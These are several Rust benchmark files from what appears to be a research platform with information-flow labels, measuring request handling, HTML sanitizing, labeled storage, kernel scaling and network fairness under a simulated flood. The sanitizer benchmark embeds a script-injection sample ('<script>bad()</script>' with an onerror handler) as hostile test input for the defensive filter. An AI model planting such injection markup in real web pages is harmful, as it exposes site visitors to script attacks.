                assert_eq!(r.status, 200);
                black_box(r.body.len())
            })
        });
    }

    // Friend's photo through the friends-only declassifier: the perimeter
    // consults the relationship oracle.
    {
        let (a, b) = w5.graph.edges[0];
        let owner = w5.accounts[a].clone();
        let viewer = w5.accounts[b].clone();
        let platform = Arc::clone(&w5.platform);
        g.bench_function("w5_view_friend_photo_declassified", |bench| {
            bench.iter(|| {
                let req = Platform::make_request(
                    "GET",
                    "view",
                    &[("user", owner.username.as_str()), ("name", "photo0")],
                    Some(&viewer),
                    Bytes::new(),
                );
                let r = platform.invoke(Some(&viewer), "devA/photos", req);
                assert_eq!(r.status, 200);
                black_box(r.body.len())
            })
        });
    }

    // A blocked export (stranger, no grants): the denial path.
    {
        let stranger = w5.platform.accounts.register("stranger", "pw").unwrap();
        w5.platform.policies.revoke_declassifier(w5.accounts[0].id, "friends-only");
        let owner = w5.accounts[0].clone();
        // Restore grant structure for other benches by using a dedicated owner.
        w5.platform
            .policies
            .grant_declassifier(owner.id, "friends-only", GrantScope::App("devA/photos".into()));
        let platform = Arc::clone(&w5.platform);
        g.bench_function("w5_blocked_export", |bench| {
            bench.iter(|| {
                let req = Platform::make_request(
                    "GET",
                    "view",
                    &[("user", owner.username.as_str()), ("name", "photo0")],
                    Some(&stranger),
                    Bytes::new(),
                );
                let r = platform.invoke(Some(&stranger), "devA/photos", req);
                assert_eq!(r.status, 403);
                black_box(r.status)
            })
        });
    }
    g.finish();
}

criterion_group!(benches, bench_invoke);
criterion_main!(benches);
