//! Criterion benchmarks for the perimeter JS filter (experiment E10's
//! rigorous arm).

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use w5_platform::sanitize_html;

fn page(paragraphs: usize, hostile: bool) -> String {
    let mut html = String::from("<html><body>");
    for p in 0..paragraphs {
        html.push_str(&format!(
            "<p class=\"x{p}\">lorem ipsum dolor sit amet {p}</p><a href=\"/l{p}\">link</a>"
        ));
        if hostile && p % 10 == 0 {
            html.push_str("<script>bad()</script><img src=a onerror=steal()>");
        }
    }
    html.push_str("</body></html>");
    html
}

fn bench_sanitize(c: &mut Criterion) {
    let mut g = c.benchmark_group("sanitize");
    for &(name, hostile) in &[("clean", false), ("hostile", true)] {
        for &paragraphs in &[10usize, 100, 1000] {
            let html = page(paragraphs, hostile);
            g.throughput(Throughput::Bytes(html.len() as u64));
            g.bench_with_input(
                BenchmarkId::new(name, paragraphs),
                &html,
                |b, html| b.iter(|| black_box(sanitize_html(html).1.total())),
            );
        }
    }
    g.finish();
}

criterion_group!(benches, bench_sanitize);
criterion_main!(benches);
