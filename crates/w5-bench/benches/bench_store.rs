//! Criterion benchmarks for the labeled store (experiment E11's rigorous
//! arm): scans, inserts and filesystem operations with and without label
//! diversity.

use bytes::Bytes;
use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion};
use std::sync::Arc;
use w5_difc::{Label, LabelPair, TagKind, TagRegistry};
use w5_store::{Database, LabeledFs, QueryCost, QueryMode, Subject};

fn seeded_db(rows: usize, users: usize) -> (Database, Subject) {
    let reg = Arc::new(TagRegistry::new());
    let db = Database::new();
    let trusted = Subject::anonymous();
    db.execute(&trusted, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
        "CREATE TABLE items (n INTEGER)").unwrap();
    for u in 0..users {
        let (t, _) = reg.create_tag(TagKind::ExportProtect, &format!("u{u}"));
        let labels = LabelPair::new(Label::singleton(t), Label::empty());
        let per = rows / users;
        let mut done = 0;
        while done < per {
            let chunk = (per - done).min(500);
            let values: Vec<String> = (0..chunk).map(|i| format!("({})", done + i)).collect();
            db.execute(&trusted, QueryMode::Filtered, QueryCost::unlimited(), &labels,
                &format!("INSERT INTO items VALUES {}", values.join(","))).unwrap();
            done += chunk;
        }
    }
    let reader = Subject::new(LabelPair::public(), reg.effective(&w5_difc::CapSet::empty()));
    (db, reader)
}

fn bench_scans(c: &mut Criterion) {
    let mut g = c.benchmark_group("sql_scan_10k");
    g.sample_size(20);
    for &users in &[1usize, 10, 100] {
        let (db, reader) = seeded_db(10_000, users);
        g.bench_with_input(BenchmarkId::new("filtered", users), &users, |b, _| {
            b.iter(|| {
                black_box(
                    db.execute(&reader, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
                        "SELECT COUNT(*) FROM items WHERE n % 2 = 0")
                        .unwrap()
                        .scanned,
                )
            })
        });
        g.bench_with_input(BenchmarkId::new("naive", users), &users, |b, _| {
            b.iter(|| {
                black_box(
                    db.execute(&reader, QueryMode::Naive, QueryCost::unlimited(), &LabelPair::public(),
                        "SELECT COUNT(*) FROM items WHERE n % 2 = 0")
                        .unwrap()
                        .scanned,
                )
            })
        });
    }
    g.finish();
}

fn bench_insert(c: &mut Criterion) {
    let mut g = c.benchmark_group("sql_insert");
    let (db, _) = seeded_db(100, 1);
    let trusted = Subject::anonymous();
    g.bench_function("single_row", |b| {
        b.iter(|| {
            db.execute(&trusted, QueryMode::Filtered, QueryCost::unlimited(), &LabelPair::public(),
                "INSERT INTO items VALUES (42)")
                .unwrap()
        })
    });
    g.finish();
}

fn bench_fs(c: &mut Criterion) {
    let mut g = c.benchmark_group("labeled_fs");
    let fs = LabeledFs::new();
    let subject = Subject::anonymous();
    for i in 0..1000 {
        fs.create(&subject, &format!("/bench/f{i}"), LabelPair::public(), Bytes::from_static(b"0123456789abcdef"))
            .unwrap();
    }
    g.bench_function("read_hit", |b| {
        b.iter(|| black_box(fs.read(&subject, "/bench/f500").unwrap()))
    });
    g.bench_function("stat", |b| {
        b.iter(|| black_box(fs.stat(&subject, "/bench/f500").unwrap()))
    });
    g.bench_function("list_1000", |b| {
        b.iter(|| black_box(fs.list(&subject, "/bench").unwrap().len()))
    });
    g.finish();
}

criterion_group!(benches, bench_scans, bench_insert, bench_fs);
criterion_main!(benches);
