//! BENCH_difc — interned label hot path vs the pre-interning cost model.
//!
//! Every pairing runs two arms over the *same* harness:
//!
//! - **naive**: the pre-PR cost model. Set algebra on `Vec<Tag>`
//!   ([`w5_difc::naive`]), the full privileged flow rules per message
//!   ([`w5_difc::can_flow_with`] / `Subject::may_read`, both retained
//!   unchanged), and the per-row label/value clones `exec.rs::select`
//!   paid before rows carried interned ids.
//! - **interned**: the current hot path — [`w5_difc::intern`] id
//!   compares against the packed subset cache, and
//!   [`w5_store::FlowMemo`] hash probes with zero clones. Both arms
//!   tick the audit ledger identically (`count_check` parity is part of
//!   the design), so the delta is pure label-machinery cost.
//!
//! Emits `BENCH_difc.json` (via `w5_bench::metrics`, so `W5_METRICS_DIR`
//! redirects it). `--short` shrinks budgets for CI smoke runs; `--check
//! <baseline.json>` exits non-zero if any paired speedup regressed more
//! than 5x against the committed baseline.

use std::sync::Arc;
use std::time::{Duration, Instant};
use w5_difc::{intern, naive, CapSet, InternStats, Label, LabelPair, Tag, TagKind, TagRegistry};
use w5_store::{Database, QueryCost, QueryMode, Subject};

/// One measured operation.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct BenchEntry {
    name: String,
    ns_per_op: f64,
    ops_per_sec: f64,
}

/// A naive-vs-interned pairing; `speedup` = naive ns / interned ns.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct Speedup {
    name: String,
    speedup: f64,
}

/// The whole artifact.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct BenchDifc {
    short: bool,
    entries: Vec<BenchEntry>,
    speedups: Vec<Speedup>,
    intern: InternStats,
}

struct Harness {
    budget: Duration,
    entries: Vec<BenchEntry>,
    speedups: Vec<Speedup>,
}

/// Inner batch for nanosecond-scale ops: the throughput loop reads the
/// clock between closure calls, so each call runs the op this many times
/// to keep the clock read off the measured cost.
const BATCH: u32 = 64;

impl Harness {
    fn bench<F: FnMut()>(&mut self, name: &str, inner: u32, mut f: F) -> f64 {
        let (iters, elapsed) = w5_bench::throughput(self.budget, || {
            for _ in 0..inner {
                f();
            }
        });
        let ops = iters * u64::from(inner);
        let ns = elapsed.as_nanos() as f64 / ops as f64;
        println!("  {name:<34} {:>12}  {ns:>10.1} ns/op", w5_bench::ops_per_sec(ops, elapsed));
        self.entries.push(BenchEntry {
            name: name.to_string(),
            ns_per_op: ns,
            ops_per_sec: ops as f64 / elapsed.as_secs_f64(),
        });
        ns
    }

    fn pair<FN: FnMut(), FI: FnMut()>(&mut self, name: &str, inner: u32, naive: FN, interned: FI) {
        let n = self.bench(&format!("{name} (naive)"), inner, naive);
        let i = self.bench(&format!("{name} (interned)"), inner, interned);
        let speedup = n / i;
        println!("  {name:<34} speedup {speedup:.1}x");
        self.speedups.push(Speedup { name: name.to_string(), speedup });
    }
}

fn label(n: usize, offset: u64) -> Label {
    Label::from_iter((0..n as u64).map(|i| Tag::from_raw(offset + i * 2 + 1)))
}

/// The pre-PR stored row: an owned label pair per row, cloned on every
/// visit, values cloned out for every row the subject may read.
struct NaiveRow {
    labels: LabelPair,
    values: Vec<i64>,
}

fn scan_pair(h: &mut Harness, rows: usize, users: usize) {
    // `users` distinct secrecy labels spread across `rows` rows, read by a
    // subject already raised over all of them (the feed-render shape: one
    // accumulated tag per friend). Every row passes, so both arms pay the
    // check *and* the accept path on each row.
    let user_labels: Vec<Label> =
        (0..users as u64).map(|u| Label::singleton(Tag::from_raw(500_000 + u))).collect();
    let all: Label = user_labels.iter().fold(Label::empty(), |acc, l| acc.union(l));
    let subject = Subject::new(LabelPair::new(all, Label::empty()), CapSet::empty());

    let naive_rows: Vec<NaiveRow> = (0..rows)
        .map(|i| NaiveRow {
            labels: LabelPair::new(user_labels[i % users].clone(), Label::empty()),
            values: vec![i as i64, (i * 2) as i64],
        })
        .collect();
    let interned_rows: Vec<(w5_difc::PairId, Vec<i64>)> =
        naive_rows.iter().map(|r| (r.labels.interned(), r.values.clone())).collect();

    let name = format!("labeled_scan_{rows}");
    h.pair(
        &name,
        1,
        || {
            // Pre-PR select loop: clone the row's label pair, run the full
            // read rule (which clones the subject's accumulated secrecy on
            // every allowed row), clone values on accept.
            let mut hits = 0usize;
            let mut acc = 0i64;
            for row in &naive_rows {
                let pair = row.labels.clone();
                if subject.may_read(&pair) {
                    let values = row.values.clone();
                    acc += values[0];
                    hits += 1;
                }
            }
            std::hint::black_box((hits, acc));
        },
        || {
            // Current select loop: memoized check on a Copy id, borrowed
            // values, no clones.
            let mut memo = subject.memo();
            let mut hits = 0usize;
            let mut acc = 0i64;
            for (id, values) in &interned_rows {
                if memo.may_read(*id) {
                    acc += values[0];
                    hits += 1;
                }
            }
            std::hint::black_box((hits, acc));
        },
    );
}

/// Real end-to-end SELECT over the labeled store at `rows`, for context
/// (parse + plan + scan + projection; the scan pair above isolates the
/// per-row label cost this PR targets).
fn store_select(h: &mut Harness, rows: usize, reg: &Arc<TagRegistry>) {
    let db = Database::new();
    let trusted = Subject::anonymous();
    db.execute(
        &trusted,
        QueryMode::Filtered,
        QueryCost::unlimited(),
        &LabelPair::public(),
        "CREATE TABLE items (n INTEGER, owner INTEGER)",
    )
    .unwrap();
    let users = 50usize;
    let labels: Vec<LabelPair> = (0..users)
        .map(|i| {
            let (t, _) = reg.create_tag(TagKind::ExportProtect, &format!("bench{i}"));
            LabelPair::new(Label::singleton(t), Label::empty())
        })
        .collect();
    for (u, l) in labels.iter().enumerate() {
        let per_user = rows / users;
        let mut base = 0;
        while base < per_user {
            let chunk = (per_user - base).min(500);
            let values: Vec<String> =
                (0..chunk).map(|i| format!("({}, {u})", base + i)).collect();
            db.execute(
                &trusted,
                QueryMode::Filtered,
                QueryCost::unlimited(),
                l,
                &format!("INSERT INTO items VALUES {}", values.join(",")),
            )
            .unwrap();
            base += chunk;
        }
    }
    let reader = Subject::new(LabelPair::public(), reg.effective(&CapSet::empty()));
    h.bench(&format!("store_select_{rows}"), 1, || {
        let out = db
            .execute(
                &reader,
                QueryMode::Filtered,
                QueryCost::unlimited(),
                &LabelPair::public(),
                "SELECT COUNT(*) FROM items WHERE n % 2 = 0",
            )
            .unwrap();
        std::hint::black_box(out.scanned);
    });
}

/// End-to-end platform request cost over the default read-heavy mix.
fn platform_request(h: &mut Harness, short: bool) {
    use bytes::Bytes;
    use w5_platform::Platform;
    let pop = w5_sim::PopulationConfig {
        users: if short { 8 } else { 20 },
        ..Default::default()
    };
    let world = w5_sim::build_population(Platform::new_default("w5-bench"), pop);
    let reqs = w5_sim::workload::generate(
        &world,
        w5_sim::workload::MixWeights::default(),
        if short { 40 } else { 200 },
        7,
    );
    let mut ix = 0usize;
    h.bench("platform_request", 1, || {
        let r = &reqs[ix % reqs.len()];
        ix += 1;
        let params: Vec<(&str, &str)> =
            r.params.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let viewer = &world.accounts[r.viewer];
        let req = Platform::make_request(r.method, r.action, &params, Some(viewer), Bytes::new());
        let out = world.platform.invoke(Some(viewer), &r.app, req);
        assert!(out.status == 200 || out.status == 403, "status {}", out.status);
        std::hint::black_box(out.status);
    });
}

/// Compare against a committed baseline: any paired speedup that fell by
/// more than 5x (e.g. the interned arm lost its advantage) fails the run.
fn check_against(baseline_path: &str, current: &BenchDifc) -> Result<(), String> {
    let text = std::fs::read_to_string(baseline_path)
        .map_err(|e| format!("read {baseline_path}: {e}"))?;
    let baseline: BenchDifc =
        serde_json::from_str(&text).map_err(|e| format!("parse {baseline_path}: {e}"))?;
    let mut failures = Vec::new();
    for base in &baseline.speedups {
        let Some(cur) = current.speedups.iter().find(|s| s.name == base.name) else {
            failures.push(format!("{}: missing from current run", base.name));
            continue;
        };
        if cur.speedup < base.speedup / 5.0 {
            failures.push(format!(
                "{}: speedup {:.2}x is >5x below baseline {:.2}x",
                base.name, cur.speedup, base.speedup
            ));
        }
    }
    if failures.is_empty() {
        println!("check vs {baseline_path}: ok ({} pairings)", baseline.speedups.len());
        Ok(())
    } else {
        Err(failures.join("; "))
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let short = args.iter().any(|a| a == "--short");
    let check = args
        .iter()
        .position(|a| a == "--check")
        .map(|i| args.get(i + 1).expect("--check needs a path").clone());

    w5_bench::banner("BENCH_difc", "interned labels vs pre-interning cost model", "§2, §3.1");
    let mut h = Harness {
        budget: if short { Duration::from_millis(25) } else { Duration::from_millis(200) },
        entries: Vec::new(),
        speedups: Vec::new(),
    };

    // --- Label set algebra, small (2 tags) and accumulated (32 tags). ---
    for &n in &[2usize, 32] {
        let a = label(n, 1);
        let b = label(n, 3);
        let (ta, tb) = (naive::tags_of(&a), naive::tags_of(&b));
        let (ia, ib) = (intern::intern(&a), intern::intern(&b));
        h.pair(
            &format!("union_{n}"),
            BATCH,
            || {
                std::hint::black_box(naive::union(&ta, &tb));
            },
            || {
                std::hint::black_box(intern::union(ia, ib));
            },
        );
        h.pair(
            &format!("intersect_{n}"),
            BATCH,
            || {
                std::hint::black_box(naive::intersect(&ta, &tb));
            },
            || {
                std::hint::black_box(intern::intersect(ia, ib));
            },
        );
        let sup = a.union(&b);
        let (tsup, isup) = (naive::tags_of(&sup), intern::intern(&sup));
        h.pair(
            &format!("subset_{n}"),
            BATCH,
            || {
                std::hint::black_box(naive::subset(&ta, &tsup));
            },
            || {
                std::hint::black_box(intern::subset(ia, isup));
            },
        );
    }

    // --- Repeated can_flow: one kernel send, checked per message. The
    // sender carries accumulated taint (32 tags — the feed/aggregator
    // shape §2 cares about); the receiver is raised above it. ---
    {
        let src = label(32, 101);
        let dst = src.union(&label(8, 901));
        let empty = CapSet::empty();
        let (isrc, idst) = (intern::intern(&src), intern::intern(&dst));
        let int_id = intern::intern(&Label::empty());
        h.pair(
            "can_flow_repeated",
            BATCH,
            || {
                // Pre-PR send_strict body: full privileged secrecy +
                // integrity rules on owned labels, every message.
                let ok = w5_difc::can_flow_with(&src, &empty, &dst, &empty).is_ok()
                    && w5_difc::rules::integrity_flow_with(
                        &Label::empty(),
                        &empty,
                        &Label::empty(),
                        &empty,
                    )
                    .is_ok();
                std::hint::black_box(ok);
            },
            || {
                // Current fast path: two id subset probes, same ledger tick.
                let ok = intern::subset(isrc, idst) && intern::subset(int_id, int_id);
                w5_obs::count_check("flow", ok, &isrc.to_obs());
                std::hint::black_box(ok);
            },
        );
    }

    // --- Subset cache: hot pair (hit) vs a cold streak of fresh pairs. ---
    {
        let hot_a = intern::intern(&label(8, 301));
        let hot_b = intern::intern(&label(8, 303));
        intern::subset(hot_a, hot_b); // prime
        h.bench("flow_cache_hit", BATCH, || {
            std::hint::black_box(intern::subset(hot_a, hot_b));
        });
        // Cold: each (a, b) pair is checked exactly once. Measured by a
        // single timed pass, since a repeat would turn misses into hits.
        let fresh = if short { 2_000 } else { 20_000 };
        let ids: Vec<_> =
            (0..fresh as u64).map(|i| intern::intern(&label(2, 700_000 + i * 8))).collect();
        let before = intern::stats();
        let t = Instant::now();
        for w in ids.windows(2) {
            std::hint::black_box(intern::subset(w[0], w[1]));
        }
        let elapsed = t.elapsed();
        let after = intern::stats();
        let ns = elapsed.as_nanos() as f64 / (ids.len() - 1) as f64;
        println!(
            "  {:<34} {:>12}  {ns:>10.1} ns/op  ({} misses)",
            "flow_cache_miss",
            w5_bench::ops_per_sec((ids.len() - 1) as u64, elapsed),
            after.flow_misses - before.flow_misses,
        );
        h.entries.push(BenchEntry {
            name: "flow_cache_miss".to_string(),
            ns_per_op: ns,
            ops_per_sec: (ids.len() - 1) as f64 / elapsed.as_secs_f64(),
        });
    }

    // --- Labeled scans: the per-row hot loop, naive vs memoized. ---
    scan_pair(&mut h, 10_000, 100);
    scan_pair(&mut h, 100_000, 100);

    // --- Real store SELECTs and an end-to-end platform request. ---
    let reg = Arc::new(TagRegistry::new());
    store_select(&mut h, 10_000, &reg);
    if !short {
        store_select(&mut h, 100_000, &reg);
    }
    platform_request(&mut h, short);

    let out = BenchDifc {
        short,
        entries: h.entries,
        speedups: h.speedups,
        intern: intern::stats(),
    };
    let path = w5_bench::metrics::write_metrics("BENCH_difc", &out).expect("write metrics");
    println!();
    println!("wrote {}", path.display());

    for s in &out.speedups {
        if (s.name == "can_flow_repeated" || s.name == "labeled_scan_100000") && s.speedup < 2.0 {
            eprintln!("FAIL: {} speedup {:.2}x < 2x acceptance floor", s.name, s.speedup);
            std::process::exit(1);
        }
    }

    if let Some(baseline) = check {
        if let Err(e) = check_against(&baseline, &out) {
            eprintln!("FAIL: {e}");
            std::process::exit(1);
        }
    }
}
