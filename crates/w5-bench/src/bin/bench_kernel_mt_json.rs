//! BENCH_kernel_mt — multi-core load harness for the sharded kernel.
//!
//! Closed-loop throughput: N worker threads, each owning a pool of
//! processes on one shared [`w5_kernel::Kernel`], hammer syscalls until
//! a fixed deadline. Two mixes:
//!
//! - **send_recv**: the flow-check hot path alone — `send` to a random
//!   process anywhere in the world (so a large fraction of sends take
//!   two shard locks, in both orders) interleaved with `recv` on the
//!   worker's own mailboxes.
//! - **mixed**: adds the rest of the syscall surface at realistic
//!   ratios — spawn/exit/reap churn, `taint_for_read` + `check_write`
//!   label traffic, and capability drops — so shard-map writes contend
//!   with the read-mostly flow path.
//!
//! Each worker installs a private scoped [`w5_obs::Ledger`] so the
//! bench measures kernel contention, not the global observability
//! ring's mutex. The schedule is seeded per worker; only the *amount*
//! of work done before the deadline varies between runs.
//!
//! Emits `BENCH_kernel_mt.json` (via `w5_bench::metrics`, so
//! `W5_METRICS_DIR` redirects it) with per-thread-count points and the
//! 4-thread/1-thread scaling ratio per mix. `--short` shrinks budgets
//! for CI smoke runs; `--check-scaling <ratio>` exits non-zero if any
//! mix scales below the ratio at 4 threads — skipped loudly when the
//! host exposes fewer than 4 cores, where the assert is meaningless.

use bytes::Bytes;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::Arc;
use std::time::{Duration, Instant};
use w5_difc::{CapSet, Label, LabelPair, TagKind, TagRegistry};
use w5_kernel::{Kernel, ProcessId, ResourceLimits, SpawnSpec};
use w5_obs::Ledger;

/// One measured (mix, threads) point.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct Point {
    threads: usize,
    ops: u64,
    secs: f64,
    ops_per_sec: f64,
}

#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct MixResult {
    name: String,
    points: Vec<Point>,
    /// 4-thread throughput / 1-thread throughput (0.0 if 4 wasn't run).
    scaling_4t: f64,
}

/// The whole artifact.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct BenchKernelMt {
    short: bool,
    /// Cores the measuring host exposed — scaling numbers from a 1-core
    /// box are honest but meaningless; CI re-measures on 4 cores.
    cores: usize,
    shards: usize,
    threads: Vec<usize>,
    mixes: Vec<MixResult>,
}

const PROCS_PER_WORKER: usize = 64;

#[derive(Clone, Copy, PartialEq, Eq)]
enum Mix {
    SendRecv,
    Mixed,
}

/// One worker's closed loop: run ops against the shared kernel until
/// `deadline`, returning how many completed. `world` is every worker's
/// starting pids, so sends cross worker (and shard) boundaries.
fn worker(
    k: &Kernel,
    mix: Mix,
    me: usize,
    own: &[ProcessId],
    world: &[ProcessId],
    seed: u64,
    deadline: Instant,
) -> u64 {
    let _scope = w5_obs::scoped(Arc::new(Ledger::new()));
    let mut rng = StdRng::seed_from_u64(seed ^ (me as u64 + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15));
    let payload = Bytes::from_static(b"bench");
    let taint = LabelPair::new(
        Label::singleton(k.create_tag(own[0], TagKind::ExportProtect, &format!("mt{me}")).unwrap()),
        Label::empty(),
    );
    let mut spawned: Vec<ProcessId> = Vec::new();
    let mut ops = 0u64;
    // Check the clock every CHUNK ops, not every op.
    const CHUNK: u32 = 256;
    loop {
        for _ in 0..CHUNK {
            let src = own[rng.gen_range(0..own.len())];
            match (mix, rng.gen_range(0u32..100)) {
                (Mix::SendRecv, 0..=49) | (Mix::Mixed, 0..=39) => {
                    let dst = world[rng.gen_range(0..world.len())];
                    let _ = k.send(src, dst, payload.clone(), CapSet::empty());
                }
                (Mix::SendRecv, _) | (Mix::Mixed, 40..=69) => {
                    let _ = k.recv(src);
                }
                (Mix::Mixed, 70..=79) => {
                    // Spawn churn: create, then retire an older child so
                    // the process table stays bounded.
                    if let Ok(child) = k.spawn(
                        src,
                        SpawnSpec {
                            name: format!("w{me}.s"),
                            labels: LabelPair::public(),
                            grant: CapSet::empty(),
                            limits: ResourceLimits::sandbox_default(),
                        },
                    ) {
                        spawned.push(child);
                    }
                    if spawned.len() > 8 {
                        let old = spawned.remove(0);
                        let _ = k.exit(old);
                        let _ = k.reap(old);
                    }
                }
                (Mix::Mixed, 80..=89) => {
                    // Label traffic on a *spawned* (private) process so the
                    // shared world stays public for everyone else's sends.
                    if let Some(&p) = spawned.first() {
                        let _ = k.taint_for_read(p, &taint);
                        let _ = k.check_write(p, &LabelPair::public());
                    }
                }
                (Mix::Mixed, _) => {
                    let _ = k.labels(src);
                    let _ = k.check_write(src, &LabelPair::public());
                }
            }
            ops += 1;
        }
        if Instant::now() >= deadline {
            return ops;
        }
    }
}

/// One (mix, threads) measurement over a fresh kernel.
fn run_point(mix: Mix, threads: usize, budget: Duration, shards: usize) -> Point {
    let k = Kernel::with_shards(shards, Arc::new(TagRegistry::new()));
    let pools: Vec<Vec<ProcessId>> = (0..threads)
        .map(|t| {
            (0..PROCS_PER_WORKER)
                .map(|i| {
                    k.create_process(
                        &format!("w{t}.p{i}"),
                        LabelPair::public(),
                        CapSet::empty(),
                        ResourceLimits::unlimited(),
                    )
                })
                .collect()
        })
        .collect();
    let world: Vec<ProcessId> = pools.iter().flatten().copied().collect();

    let start = Instant::now();
    let deadline = start + budget;
    let total: u64 = std::thread::scope(|s| {
        let handles: Vec<_> = (0..threads)
            .map(|t| {
                let k = k.clone();
                let own = &pools[t];
                let world = &world;
                s.spawn(move || worker(&k, mix, t, own, world, 20070824, deadline))
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).sum()
    });
    let secs = start.elapsed().as_secs_f64();
    Point { threads, ops: total, secs, ops_per_sec: total as f64 / secs }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let short = args.iter().any(|a| a == "--short");
    let check_scaling: Option<f64> = args.iter().position(|a| a == "--check-scaling").map(|i| {
        args.get(i + 1)
            .expect("--check-scaling needs a ratio")
            .parse()
            .expect("--check-scaling ratio must be a number")
    });

    let cores = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
    let shards = w5_kernel::DEFAULT_SHARDS;
    let thread_counts = vec![1usize, 2, 4, 8];
    let budget = if short { Duration::from_millis(150) } else { Duration::from_millis(600) };

    w5_bench::banner(
        "BENCH_kernel_mt",
        "sharded kernel under multi-threaded closed-loop load",
        "DESIGN.md §14",
    );
    println!("  host cores: {cores}   shards: {shards}   budget: {budget:?}/point");

    let mut mixes = Vec::new();
    for (mix, name) in [(Mix::SendRecv, "send_recv"), (Mix::Mixed, "mixed")] {
        println!("  mix {name}:");
        let mut points = Vec::new();
        for &t in &thread_counts {
            let p = run_point(mix, t, budget, shards);
            println!(
                "    {t} thread{} {:>12}",
                if t == 1 { " " } else { "s" },
                w5_bench::ops_per_sec(p.ops, Duration::from_secs_f64(p.secs)),
            );
            points.push(p);
        }
        let one = points.iter().find(|p| p.threads == 1).map(|p| p.ops_per_sec).unwrap_or(0.0);
        let four = points.iter().find(|p| p.threads == 4).map(|p| p.ops_per_sec).unwrap_or(0.0);
        let scaling_4t = if one > 0.0 { four / one } else { 0.0 };
        println!("    4-thread scaling {scaling_4t:.2}x");
        mixes.push(MixResult { name: name.to_string(), points, scaling_4t });
    }

    let out = BenchKernelMt { short, cores, shards, threads: thread_counts, mixes };
    let path = w5_bench::metrics::write_metrics("BENCH_kernel_mt", &out).expect("write metrics");
    println!();
    println!("wrote {}", path.display());

    if let Some(floor) = check_scaling {
        if cores < 4 {
            println!(
                "SKIP: --check-scaling {floor} not enforced — host has {cores} core(s), \
                 4-thread scaling is meaningless below 4"
            );
            return;
        }
        for m in &out.mixes {
            if m.scaling_4t < floor {
                eprintln!(
                    "FAIL: mix {} scaled {:.2}x at 4 threads, below the {floor}x floor",
                    m.name, m.scaling_4t
                );
                std::process::exit(1);
            }
        }
        println!("check: all mixes scaled >= {floor}x at 4 threads");
    }
}
