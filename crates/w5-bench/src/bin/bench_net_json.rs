//! BENCH_net — staged pipeline vs the seed thread-per-connection path
//! under a rogue-tenant flood.
//!
//! Every scenario drives one [`w5_net::Serve`] engine with a CPU-bound
//! handler and measures an honest tenant's request latency:
//!
//! - **reference**: [`w5_net::InlineServe`] — the seed dispatch kept
//!   verbatim: every client runs the handler on its own thread,
//!   concurrency bounded only by connection count.
//! - **pipeline**: [`w5_net::Pipeline`] — a fixed two-worker pool fed by
//!   bounded per-class queues with deficit-round-robin fair dequeue.
//!
//! Two workloads per engine:
//!
//! - `honest_alone` — one honest client issuing moderate requests
//!   sequentially: the baseline p99.
//! - `honest_vs_rogue` — the same honest client while a rogue tenant
//!   floods from many concurrent connections, each request cheap but
//!   endless (the classic volumetric shape). The **fairness ratio** is
//!   contended p99 / baseline p99, per engine.
//!
//! On the reference engine every rogue connection gets the handler
//! directly, so the flood oversubscribes the CPU and the honest tenant
//! degrades with rogue connection count — unboundedly. On the pipeline
//! the rogue is confined to the worker pool and DRR interleaves the
//! honest class every rotation, so the honest tenant waits at most the
//! residual of one cheap rogue job: the PR's acceptance floor is a
//! fairness ratio **< 2.0** on the pipeline in full mode.
//!
//! Emits `BENCH_net.json` (via `w5_bench::metrics`, so `W5_METRICS_DIR`
//! redirects it). `--short` shrinks measurement windows for CI smoke
//! runs; `--check <baseline.json>` exits non-zero if the pipeline's
//! fairness ratio regressed more than 4x against the committed baseline.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};
use w5_net::{
    Admission, ChargeDenied, ChargePoint, Handler, InlineServe, Pipeline, PipelineConfig,
    PrincipalClass, Request, Response, Serve,
};
use w5_obs::Histogram;

/// FNV-1a steps per honest request (~a moderate dynamic page).
const HONEST_ITERS: u64 = 600_000;
/// FNV-1a steps per rogue request — cheap on purpose: the flood's power
/// is connection count, not per-request weight.
const ROGUE_ITERS: u64 = 60_000;

fn spin(iters: u64) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for i in 0..iters {
        h ^= i;
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    std::hint::black_box(h)
}

/// CPU-bound handler: `/honest/…` does moderate work, `/rogue/…` cheap
/// work. No shared state, so latency is pure scheduling + cycles.
struct SpinHandler;

impl Handler for SpinHandler {
    fn handle(&self, request: Request, _peer: SocketAddr) -> Response {
        let work = if request.path.starts_with("/honest") { HONEST_ITERS } else { ROGUE_ITERS };
        Response::text(format!("{:x}", spin(work)))
    }
}

/// Principal classes by first path segment; never charges (quota
/// refusals are the boundary tests' subject, not this bench's).
struct ClassByPath;

impl Admission for ClassByPath {
    fn classify(&self, request: &Request, _peer: SocketAddr) -> PrincipalClass {
        let seg = request.path.split('/').find(|s| !s.is_empty()).unwrap_or("");
        PrincipalClass::App(seg.to_string())
    }

    fn charge(
        &self,
        _class: &PrincipalClass,
        _point: ChargePoint,
        _bytes: u64,
    ) -> Result<(), ChargeDenied> {
        Ok(())
    }
}

fn peer() -> SocketAddr {
    "127.0.0.1:4200".parse().unwrap()
}

/// One measured workload.
#[derive(Clone, Debug, serde::Serialize, serde::Deserialize)]
struct BenchEntry {
    name: String,
    /// Honest requests completed in the window.
    honest_requests: u64,
    /// Honest latency percentiles, microseconds.
    honest_p50_us: f64,
    honest_p99_us: f64,
    /// Honest completions per second.
    honest_rps: f64,
    /// Rogue completions per second (0 for the alone workloads).
    rogue_rps: f64,
}

